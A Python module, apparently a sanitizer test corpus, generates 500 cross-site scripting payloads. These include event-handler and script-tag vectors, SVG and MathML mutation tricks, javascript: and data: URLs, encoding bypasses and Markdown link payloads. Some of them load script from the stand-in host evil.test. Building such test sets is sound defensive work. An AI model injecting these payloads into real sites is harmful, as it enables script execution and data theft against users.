"""Five hundred texts that would run as a script, or ask another origin, where a page let them."""

from itertools import cycle, product
from typing import Final

EVIL: Final = "evil.test"
_ACTIONS: Final = ("window.__xss=1", "alert(1)", "window.__xss=`1`", f"fetch('//{EVIL}/')")
# What ends the context that a careless template would print a text in.
_ENDS: Final = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "]]>")
_VECTORS: Final = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<script type=module>import '//{EVIL}/x.js';{{}}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src/onerror={}>",
    "<img src=x onerror\n=\n{}>",
    f"<img src=//{EVIL}/pixel.gif onload={{}}>",
    f"<img srcset='//{EVIL}/pixel.gif 2x'>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:,{}'/></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    f"<svg><use href='//{EVIL}/x.svg#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<math href='javascript:{}'>x</math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    f"<object data=//{EVIL}/x.swf>{{}}</object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<x style='animation:a' onanimationstart={}>x</x>",
    f"<style>@import '//{EVIL}/x.css';</style>{{}}",
    f"<link rel=stylesheet href=//{EVIL}/x.css>{{}}",
    f"<link rel=prefetch href=//{EVIL}/x>{{}}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<base href=//{EVIL}/>",
    "<form action='javascript:{}'><button autofocus>x</button></form>",
    "<button form=x formaction='javascript:{}'>x</button>",
    "<a href='javascript:{}' autofocus>x</a>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    " onmouseover={} autofocus onfocus={} x=",
    " style=background:url(//" + EVIL + "/x) x=",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\ufeff\u2028<img src=x onerror={}>",
)
URLS: Final = (
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "javascript\n:window.__xss=1",
    "\x01javascript:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "&#106;avascript:window.__xss=1",
    "javascript://example.test/%0awindow.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=window.__xss=1>",
    "vbscript:window.__xss=1",
    "blob:javascript:window.__xss=1",
    'https://example.test/" onmouseover=window.__xss=1 x="',
    "https://example.test/'><img src=x onerror=window.__xss=1>",
    "https://example.test/><script>window.__xss=1</script>",
    "//evil.test/x",
    "view-source:javascript:window.__xss=1",
    "feed:javascript:window.__xss=1",
)
_MARKDOWN: Final = (
    *(f"[x]({each})" for each in URLS[:12]),
    *(f"![x]({each})" for each in URLS[8:14]),
    "[x](<javascript:window.__xss=1>)",
    "[x][1]\n\n[1]: javascript:window.__xss=1",
    "<javascript:window.__xss=1>",
    '[x](https://example.test "\\" onmouseover=window.__xss=1 x=\\"")',
    '![x" onerror="window.__xss=1](x)',
    f"![x](//{EVIL}/pixel.gif)",
    f"![x](https://{EVIL}/pixel.gif)",
    '```"><img src=x onerror=window.__xss=1>\n```',
    "`<img src=x onerror=window.__xss=1>`",
    "# <img src=x onerror=window.__xss=1>",
    "| <script>window.__xss=1</script> |\n|---|\n| <img src=x onerror=window.__xss=1> |",
)


def _payloads(count: int) -> tuple[str, ...]:
    plain = list(dict.fromkeys([*URLS, *_MARKDOWN]))
    actions = cycle(_ACTIONS)
    made = [end + vector.format(*[next(actions)] * 2) for end, vector in product(_ENDS, _VECTORS)]
    return tuple(dict.fromkeys([*plain, *made]))[:count]


PAYLOADS: Final = _payloads(500)
